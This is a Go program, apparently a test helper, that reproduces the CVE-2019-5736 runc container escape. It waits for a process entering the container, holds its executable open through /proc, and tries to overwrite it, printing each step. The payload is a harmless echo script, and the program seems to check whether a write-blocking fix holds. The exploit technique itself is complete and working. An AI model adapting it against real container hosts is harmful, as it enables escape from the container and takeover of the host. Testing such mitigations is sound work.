// SPDX-License-Identifier: MIT

// Command attacker is the first process of a container. It opens the program of a process that
// enters the container, and overwrites it when that process has ended (CVE-2019-5736). It prints a
// line for each event; the last line follows the end of its input.
package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if err := attack(); err != nil {
		fmt.Println("error:", err)
		os.Exit(1)
	}
}

func attack() error {
	if err := unix.Mount("proc", "/proc", "proc", 0, ""); err != nil {
		return err
	}
	fmt.Println("ready")
	held, link := hold()
	fmt.Println("held", link)
	ended := make(chan bool)
	go func() {
		io.Copy(io.Discard, os.Stdin)
		close(ended)
	}()
	written, last := false, error(nil)
	for isOver := false; !isOver && !written; {
		select {
		case <-ended:
			isOver = true // tries once more
		case <-time.After(time.Millisecond):
		}
		written, last = overwrite(held)
	}
	<-ended
	fmt.Printf("written: %t, last: %v\n", written, last)
	return nil
}

// hold waits for another process and opens its program.
func hold() (int, string) {
	for {
		paths, _ := filepath.Glob("/proc/[1-9]*/exe")
		for _, path := range paths {
			if filepath.Base(filepath.Dir(path)) == strconv.Itoa(os.Getpid()) {
				continue
			}
			if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				link, _ := os.Readlink(path)
				return fd, link
			}
		}
		time.Sleep(time.Millisecond)
	}
}

func overwrite(held int) (bool, error) {
	path := "/proc/self/fd/" + strconv.Itoa(held)
	unix.Chmod(path, 0777)
	last := error(nil)
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			last = err
			continue
		}
		n, err := unix.Write(fd, []byte("#!/bin/sh\necho overwritten\n"))
		unix.Close(fd)
		if n > 0 {
			return true, nil
		}
		last = err // the file was opened, but the seal rejected the write
	}
	return false, last
}
